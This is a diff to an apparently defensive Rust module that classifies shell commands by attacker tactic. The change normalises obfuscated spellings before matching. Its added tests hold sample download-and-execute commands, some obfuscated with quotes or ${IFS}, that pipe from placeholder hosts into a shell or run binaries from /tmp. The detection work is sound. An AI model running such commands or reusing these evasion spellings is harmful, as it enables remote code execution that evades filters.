@@ -3,6 +3,7 @@
 //! so a pattern added here is found everywhere.
 
 use firewarden_model::Severity;
+use firewarden_source::spelling::{normalize_command, normalize_path};
 
 /// What a command does that an attacker would.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
@@ -86,9 +87,11 @@ fn has_raw_ip_url(text: &str) -> bool {
     })
 }
 
-/// Everything suspicious about one command, most severe first.
+/// Everything suspicious about one command, most severe first. The command is read in one
+/// spelling first ([`normalize_command`]): `//tmp/x`, `/usr/../tmp/x`, `c''url` and
+/// `curl${IFS}…` are judged as what they run.
 pub fn classify(command: &str) -> Vec<Indicator> {
-    let lower = command.to_ascii_lowercase();
+    let lower = normalize_command(command).to_ascii_lowercase();
     let t = lower.as_str();
     let mut out = Vec::new();
     let mut add = |tactic, severity, reason| {
@@ -341,9 +344,11 @@ pub fn worst(command: &str) -> Option<Indicator> {
 }
 
 /// True when a path lies in a world-writable temp dir or a hidden directory, where no
-/// legitimate service keeps its programs.
+/// legitimate service keeps its programs. The path is normalised first, so `//tmp/x` and
+/// `/usr/../dev/shm/x` count.
 pub fn is_suspicious_location(path: &str) -> bool {
-    let p = path.trim_end_matches(" (deleted)");
+    let p = normalize_path(path.trim_end_matches(" (deleted)"));
+    let p = p.as_ref();
     [
         "/tmp/",
         "/var/tmp/",
@@ -416,5 +421,25 @@ mod tests {
         assert!(is_suspicious_location("/dev/shm/a (deleted)"));
         assert!(is_suspicious_location("/root/.cache/.s/x"));
         assert!(!is_suspicious_location("/usr/sbin/sshd"));
+        assert!(is_suspicious_location("//tmp/x"));
+        assert!(is_suspicious_location("/usr/../dev/shm/x"));
+        assert!(!is_suspicious_location("/tmp/../usr/sbin/sshd"));
+    }
+
+    #[test]
+    fn respelled_commands_are_judged_as_what_they_run() {
+        for c in [
+            "c''url -s http://203.0.113.9/x | s\\h",
+            "curl${IFS}-s${IFS}http://203.0.113.9/x|sh",
+            "w\"g\"et -qO- http://evil.example/a | bash",
+        ] {
+            assert!(tactics(c).contains(&Tactic::DownloadExec), "{c}");
+        }
+        for c in [
+            "wget -q http://e.example/a -O //tmp/a; chmod +x //tmp/a; //tmp/a",
+            "/usr/../tmp/a & nohup /./var/tmp/b",
+        ] {
+            assert!(tactics(c).contains(&Tactic::TempExec), "{c}");
+        }
     }
 }
